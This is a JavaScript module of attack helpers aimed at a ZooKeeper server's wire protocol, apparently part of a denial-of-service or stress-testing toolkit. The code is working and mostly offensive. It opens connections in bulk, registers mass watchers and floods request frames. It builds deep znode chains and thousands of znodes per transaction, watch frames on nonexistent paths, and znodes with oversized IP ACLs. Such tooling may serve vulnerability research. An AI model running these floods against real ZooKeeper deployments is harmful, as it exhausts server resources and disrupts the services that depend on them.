// Preparations of attacks, and their request loop.
import {
  Attacker,
  Bytes,
  createRecord,
  FRAME_BYTES_MAX,
  frameOf,
  OPEN_ACL,
  Op,
  pathRecord,
  watchableRecord,
} from './wire.mjs';

/** The parent of the znodes that `fill` creates. */
export const MANY = '/many/flat';

export const session = (port) => Attacker.connect(port);

export async function sessions(port, count) {
  const clients = [];
  while (clients.length < count) {
    const missing = Math.min(100, count - clients.length);
    clients.push(...(await Promise.all(Array.from({ length: missing }, () => session(port)))));
  }
  return clients;
}

/** Connections that are notified of each change of a znode. */
export async function watchersOf(port, path, count) {
  const watchers = await sessions(port, count);
  for (const watcher of watchers) watcher.send(frameOf(Op.addWatch, pathRecord(path).int(0)));
  await Promise.all(watchers.map((watcher) => watcher.answered(1)));
  return watchers;
}

export function authFrame(credentials) {
  return frameOf(Op.auth, new Bytes().int(0).text('digest').data(Buffer.from(credentials)), -4);
}

export function flood({ client, frames, depth, together = 1 }, isOver) {
  let at = 0;
  return client.flood(depth, () => frames[at++ % frames.length], isOver, together);
}

export async function ensure(client, path, data) {
  const error = await client.ask(Op.create, createRecord(path, data));
  if (error !== 0 && error !== NODE_EXISTS) throw new Error(`create ${path} failed with ${error}`);
}

const NODE_EXISTS = -110;

export const QUOTAS = '/zookeeper/quota';

/** Sets limits that are never reached; the znode `/zookeeper/quota<path>` must exist. */
export async function setQuota(client, path) {
  await ensure(client, `${QUOTAS}${path}/zookeeper_limits`, Buffer.from('count=1000000000,bytes=-1'));
  await ensure(client, `${QUOTAS}${path}/zookeeper_stats`, Buffer.from('count=0,bytes=0'));
}

/** Creates `/d/d/…` below a path. @returns the deepest path, `levels` below it */
export async function createDeep(client, levels, top = '') {
  let path = top;
  for (let i = 0; i < levels; i++) {
    path += '/d';
    client.send(frameOf(Op.create, createRecord(path)));
    if (i % 100 === 99) await client.answered(client.requests);
  }
  await client.answered(client.requests);
  return path;
}

/** Creates `<parent>/<session>-0` and so on, many in parallel. */
export async function createMany(client, parent, count, options, isOver = () => false) {
  await ensure(client, parent);
  const prefix = `${parent}/${Math.floor(Math.random() * 1e9)}-`;
  for (let i = 0; i < count && !isOver(); i++) {
    client.send(frameOf(Op.create, createRecord(prefix + i, undefined, options)));
    if (i % 500 === 499) await client.answered(client.requests - 250);
  }
  await client.answered(client.requests);
}

export async function endSession({ client }) {
  await client.ask(Op.closeSession).catch(() => undefined);
}

/** Creates the znodes that attacks read, a thousand per txn. */
export async function fill(port, count) {
  const client = await session(port);
  await ensure(client, '/many');
  await ensure(client, MANY);
  for (let from = 0; from < count; from += 1000) {
    const record = new Bytes();
    for (let i = from; i < Math.min(from + 1000, count); i++) {
      record.part(Op.create).text(znodeOf(i)).data(Buffer.alloc(0)).acl(OPEN_ACL).int(0);
    }
    client.send(frameOf(Op.multi, record.endOfParts()));
    await client.answered(client.requests - 4);
  }
  await client.answered(client.requests);
  await client.demand(Op.exists, watchableRecord(znodeOf(count - 1)));
  client.drop();
}

export function znodeOf(i) {
  return `${MANY}/n${i}`;
}

/** Strings that need `bytes` bytes in total; each takes its length prefix, its text and `extra` bytes. */
export function pathsOf(bytes, textOf, extra = 0) {
  const texts = [];
  for (let used = 0; ; ) {
    const text = textOf(texts.length);
    used += 4 + text.length + extra;
    if (used > bytes) return texts;
    texts.push(text);
  }
}

export const ipOf = (i) => `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`;

/** setWatches frames that leave `count` watches on znodes that do not exist yet. */
export function watchFrames(count) {
  const frames = [];
  for (let from = 0; from < count; ) {
    const paths = pathsOf(FRAME_BYTES_MAX - 64, (i) => `/w${from + i}`).slice(0, count - from);
    from += paths.length;
    frames.push(frameOf(Op.setWatches, new Bytes().long(0).texts([]).texts(paths).texts([]), -8));
  }
  return frames;
}

/** Creates a znode with as many `ip` entries as the server accepts; none of them matches this client. */
export async function createWithLongAcl(client) {
  for (let count = 40_000; count > 10; count = Math.floor(count * 0.6)) {
    const path = `/acl-${Math.floor(Math.random() * 1e9)}`;
    const acl = Array.from({ length: count }, (_, i) => ({ perms: 31, scheme: 'ip', id: ipOf(i) }));
    if ((await client.ask(Op.create, createRecord(path, undefined, { acl }))) === 0) return path;
  }
  throw new Error('no long ACL is accepted');
}
